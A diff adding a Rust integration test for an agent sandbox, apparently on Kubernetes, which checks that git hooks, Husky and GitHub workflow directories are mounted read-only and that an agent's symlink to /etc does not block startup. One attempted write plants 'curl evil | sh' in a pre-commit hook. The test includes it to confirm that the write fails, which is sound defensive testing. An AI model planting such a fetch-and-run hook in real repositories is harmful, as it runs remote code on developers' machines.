@@ -841,3 +841,77 @@ fn uncommitted_work_in_the_pod_comes_home_as_a_snapshot_once_idle() {
             && git(&repo, &["show", &format!("{wip}:notes.txt")]) == "second\n"
     });
 }
+
+/// From the second start, when the workspace is on the claim, the Pod
+/// mounts the protected directories read-only (the guest's own mount,
+/// advisory: the sync's check is the guard); a symlink the agent put on
+/// one's way does not keep its sandbox from starting.
+#[test]
+fn protected_directories_are_read_only_in_the_pod_from_its_second_start() {
+    if skip() {
+        return;
+    }
+    let cluster = Cluster::start(true);
+    let env = agentd_running(&cluster, serde_json::json!({}));
+    sandbox(&env, "guard", &[]);
+    let read_only = |what: &str| -> Vec<String> {
+        let pod = cluster.object("pods", "ks-guard").expect(what);
+        pod["spec"]["containers"][0]["volumeMounts"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|m| m["readOnly"] == true)
+            .map(|m| m["mountPath"].as_str().unwrap().to_owned())
+            .collect()
+    };
+    // The first start seeds the claim, and says so on it.
+    assert_eq!(read_only("the first Pod"), Vec::<String>::new());
+    let claim = cluster
+        .object("persistentvolumeclaims", "ks-guard")
+        .unwrap();
+    assert_eq!(
+        claim["metadata"]["annotations"]["keystone-agent/seeded"],
+        "true"
+    );
+
+    // A symlink out of the claim where a protected directory goes: the
+    // kubelet would refuse the Pod; it starts without the mounts.
+    env.sh("guard", "ln -s /etc .husky");
+    env.ok(&["stop", "guard"]);
+    env.ok(&["start", "guard"]);
+    assert_eq!(env.state("guard"), "running");
+    assert_eq!(read_only("the Pod started again"), Vec::<String>::new());
+    assert!(
+        env.log().contains("starting it without them"),
+        "{}",
+        env.log()
+    );
+
+    env.sh("guard", "rm .husky");
+    env.ok(&["stop", "guard"]);
+    env.ok(&["start", "guard"]);
+    let mut ro = read_only("the third Pod");
+    ro.sort();
+    assert_eq!(
+        ro,
+        [
+            "/workspace/.git/hooks",
+            "/workspace/.github/workflows",
+            "/workspace/.husky"
+        ]
+    );
+    for write in [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "touch .husky/pre-commit",
+        "mkdir -p .github/workflows/x",
+        "mv .husky .husky-gone",
+    ] {
+        let (code, out) = env.inside("guard", write);
+        assert_ne!(code, 0, "{write} succeeded inside: {out}");
+    }
+    // The rest of the workspace is the agent's as before.
+    env.sh(
+        "guard",
+        "echo x > notes.txt && git add notes.txt && git -c user.name=A -c user.email=a@b commit -q -m notes",
+    );
+}
